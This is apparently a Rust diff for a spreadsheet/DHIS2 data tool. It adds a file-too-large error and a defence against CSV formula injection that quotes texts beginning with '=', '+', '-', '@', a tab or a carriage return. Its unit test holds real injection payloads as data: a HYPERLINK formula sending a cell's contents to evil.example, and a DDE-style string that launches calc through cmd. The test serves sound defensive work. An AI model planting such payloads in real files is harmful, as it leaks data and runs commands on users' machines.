@@ -69,6 +69,14 @@ pub enum RowUnit {
 }
 
 impl RowUnit {
+    /// `行` or `项`, as `第3行` counts.
+    pub fn word(self) -> &'static str {
+        match self {
+            RowUnit::Line => "行",
+            RowUnit::Item => "项",
+        }
+    }
+
     /// `第3行：` before a message about row 3; nothing when the row is not known (0).
     pub fn locate(self, row: usize, message: &str) -> String {
         match (row, self) {
@@ -115,6 +123,10 @@ pub enum FileError {
     NotXlsx(String),
     #[error("文件不是DHIS2 dataValueSets格式的JSON：{0}")]
     NotDhis2(String),
+    /// The file would take more than its bounds to read (an Excel workbook that inflates to
+    /// gigabytes, say): refused before it is read.
+    #[error("{0}")]
+    TooLarge(String),
 }
 
 /// Writing a file failed: a fault of ours, never of the input.
@@ -287,6 +299,28 @@ fn format_number(value: f64) -> String {
     format!("{value}")
 }
 
+/// Whether a spreadsheet would take a text for a formula (or for the start of one): it begins with
+/// `=`, `+`, `-` or `@`, or with a tab or carriage return that some spreadsheets skip before
+/// looking (OWASP's "CSV injection"). A number is written as a number and never asked about.
+pub fn looks_like_formula(text: &str) -> bool {
+    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A text for a CSV file: one that looks like a formula gets a leading `'`, which makes a
+/// spreadsheet show it as text rather than run it. Reading the file back takes the `'` off again
+/// ([`without_quote`]).
+pub fn neutralised(text: &str) -> Cow<'_, str> {
+    if looks_like_formula(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
+}
+
+/// A text of a CSV file as it was before [`neutralised`]: a `'` before `=`, `+`, `-` or `@` goes.
+fn without_quote(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if looks_like_formula(rest) => rest,
+        _ => text,
+    }
+}
+
 fn non_empty(text: &str) -> Option<String> {
     let t = text.trim();
     (!t.is_empty()).then(|| t.to_string())
@@ -363,6 +397,29 @@ mod tests {
             [(" 地区 ", "地区"), ("\u{feff}region", "region"), ("\u{3000}数值\t", "数值"), ("备 注", "备 注")]
         {
             assert_eq!(header_text(text), want, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn texts_that_look_like_formulas_are_quoted_and_read_back() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
+            ),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("+1", "'+1"),
+            ("-2 万元", "'-2 万元"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("含=号", "含=号"),
+            ("初步数", "初步数"),
+            ("'引号开头", "'引号开头"),
+            ("", ""),
+        ];
+        for (text, want) in cases {
+            assert_eq!(neutralised(text), want, "{text:?}");
+            assert_eq!(without_quote(&neutralised(text)), text, "{text:?} reads back");
         }
     }
 
